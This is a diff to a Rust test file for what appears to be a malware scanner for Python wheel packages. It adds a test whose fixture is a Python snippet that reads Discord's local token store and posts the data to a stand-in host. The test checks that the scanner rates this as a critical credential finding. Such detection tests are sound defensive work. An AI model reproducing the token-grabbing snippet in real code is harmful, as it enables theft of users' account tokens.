@@ -3,7 +3,7 @@
 use std::io::Write;
 use std::sync::OnceLock;
 
-use palisade_scan::{ScanConfig, Scanner, Verdict};
+use palisade_scan::{ScanConfig, Scanner, Severity, Verdict};
 
 fn scanner() -> &'static Scanner {
     static S: OnceLock<Scanner> = OnceLock::new();
@@ -672,4 +672,29 @@ fn shell_download_and_run_and_mathematical_names() {
     let prose = "# the mean 𝑥̄ of 𝑥𝑖\ndef mean(xs):\n    \"\"\"Returns 𝜇 = Σ𝑥 / 𝑛.\"\"\"\n    return sum(xs) / len(xs)\n";
     let r = scanner().scan_bytes(&wheel(&[("demo/__init__.py", prose), meta]), "demo-1.0-py3-none-any.whl");
     assert!(!rules_of(&r).contains(&"py-unicode-identifiers"), "{:#?}", r.findings);
+}
+
+#[test]
+fn credential_stores_and_persistence_weigh_more_beside_the_network() {
+    // A module that reads Discord's token store and posts: held for review on its own.
+    let stealer = "import os, requests\nP = os.getenv('APPDATA') + '\\\\discord\\\\Local Storage\\\\leveldb'\ndef go(t):\n    requests.post('https://example.invalid/t', data=t)\n";
+    let data = wheel(&[
+        ("tokens/__init__.py", ""),
+        ("tokens/grab.py", stealer),
+        ("tokens-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: tokens\nVersion: 1.0\n"),
+    ]);
+    let r = scanner().scan_bytes(&data, "tokens-1.0-py3-none-any.whl");
+    let f = r.findings.iter().find(|f| f.rule == "cred-discord-token").expect("token store");
+    assert_eq!(f.severity, Severity::Critical);
+    assert!(r.verdict >= Verdict::Suspicious, "{:#?}", r.findings);
+    // The same path named by a file without network use stays high.
+    let reader = "import os\nP = os.getenv('APPDATA') + '\\\\discord\\\\Local Storage\\\\leveldb'\n";
+    let data = wheel(&[
+        ("tokens/__init__.py", ""),
+        ("tokens/paths.py", reader),
+        ("tokens-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: tokens\nVersion: 1.0\n"),
+    ]);
+    let r = scanner().scan_bytes(&data, "tokens-1.0-py3-none-any.whl");
+    let f = r.findings.iter().find(|f| f.rule == "cred-discord-token").expect("token store");
+    assert_eq!(f.severity, Severity::High);
 }
